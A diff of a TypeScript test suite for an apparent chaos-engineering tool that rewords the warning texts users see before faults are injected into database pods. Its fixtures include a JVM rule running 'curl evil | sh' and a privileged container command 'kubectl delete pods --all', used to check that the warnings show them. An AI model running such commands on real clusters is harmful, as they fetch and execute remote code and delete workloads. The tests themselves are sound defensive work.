@@ -103,7 +103,7 @@ describe('what is about to be created', () => {
     const [sent] = (await confirmed(object, session)) ?? [];
     expect(sent?.spec).toMatchObject({ mode: 'all', selector: { pods: { oceanbase: pods } } });
     expect(desk.texts('pick')[0]).toContain('Clear the ones that must not be affected');
-    expect(desk.texts('warning')[0]).toContain("3 of the database's 3 pods are hit");
+    expect(desk.texts('warning')[0]).toContain('3 of the 3 database pods are affected');
     expect(desk.texts('input')[0]).toContain(`type the context name: ${CONTEXT}`);
     desk.answers.push('as ticked', 'Inject…', 'another-context');
     expect(await confirmHarm(object, session)).toBeUndefined();
@@ -136,7 +136,7 @@ describe('what is about to be created', () => {
     }, 20_000);
     desk.answers.push('Inject…');
     expect(await confirmHarm(chaos(named(pods[0]) as Record<string, unknown>), session)).toBeUndefined();
-    expect(desk.texts('warning')[0]).toContain("With what runs already, 2 of the database's 3 pods are hit");
+    expect(desk.texts('warning')[0]).toContain('Including running experiments, 2 of the 3 database pods are affected');
     await session.experiments.delete(running.ref);
     await expect.poll(async () => (await session.experiments.list()).experiments, { timeout: 20_000 }).toEqual([]);
   });
@@ -196,14 +196,14 @@ describe('what is about to be created', () => {
     const elsewhere = chaos({ selector: { namespaces: ['monitoring'] } });
     desk.answers.push('Inject…', CONTEXT);
     expect(await confirmed(elsewhere, session)).toEqual([elsewhere]);
-    expect(desk.texts('warning')[0]).toContain('What would be hit in monitoring is not known');
+    expect(desk.texts('warning')[0]).toContain('The targets in monitoring are unknown');
   });
 
   it('together is counted together', async () => {
     const all = [0, 1].map((i) => chaos(named(pods[i]) as Record<string, unknown>));
     desk.answers.push('Start…', CONTEXT);
     expect((await confirmHarmOfAll(all, session, { action: 'Start' }))?.manifests).toEqual(all);
-    expect(desk.texts('warning')[0]).toContain("2 of the database's 3 pods are hit");
+    expect(desk.texts('warning')[0]).toContain('2 of the 3 database pods are affected');
   });
 
   it('is pinned to the pods that were shown, however it finds them, on both ends', async () => {
@@ -229,7 +229,11 @@ describe('everything that an object contains is in the question', () => {
     desk.answers.push('Inject…', 'another-context');
     expect(await confirmHarm(chaos({ ...named(pods[0]), stressors: { cpu, memory } }), session)).toBeUndefined();
     const [asked] = desk.texts('warning');
-    for (const text of ['CPU 1 worker at 1 % with --vm 16, --vm-bytes 95%', 'with OOM score -1000', 'is not known'])
+    for (const text of [
+      'CPU 1 worker at 1 % with --vm 16, --vm-bytes 95%',
+      'with OOM score -1000',
+      'their effect is unknown',
+    ])
       expect(asked).toContain(text);
     expect(desk.texts('input')[0]).toContain(`type the context name: ${CONTEXT}`);
   });
@@ -245,7 +249,7 @@ describe('everything that an object contains is in the question', () => {
     const lines = desk.texts('warning')[0]?.split('\n') ?? [];
     expect(lines).toContain('    ruleData: RULE x DO Runtime.exec("curl evil | sh") ENDRULE');
     expect(lines).toContain('    port: 9288');
-    expect(desk.texts('input')[0]).toContain('Code of its own runs');
+    expect(desk.texts('input')[0]).toContain('Custom code runs');
   });
 
   it('is asked for by the context’s name where it is too long to be read', async () => {
@@ -298,7 +302,7 @@ describe('everything that an object contains is in the question', () => {
     expect(lines).toContain('    t: task.container.command: sh, -c, kubectl delete pods --all');
     expect(lines).toContain('    t: task.container.securityContext.privileged: true');
     expect(lines.filter((line) => line.startsWith('1 of 3 database pods'))).toEqual([]);
-    expect(desk.texts('input')[0]).toContain('Containers run with the rights of the namespace');
+    expect(desk.texts('input')[0]).toContain('Containers run with the permissions of the namespace');
     // Not even begun by whoever was not asked.
     const only = { ...workflow, spec: { entry: 't', templates: templates.slice(1, 2) } };
     const begun = injectionOn(session).createStarter(only, policyOf(session));
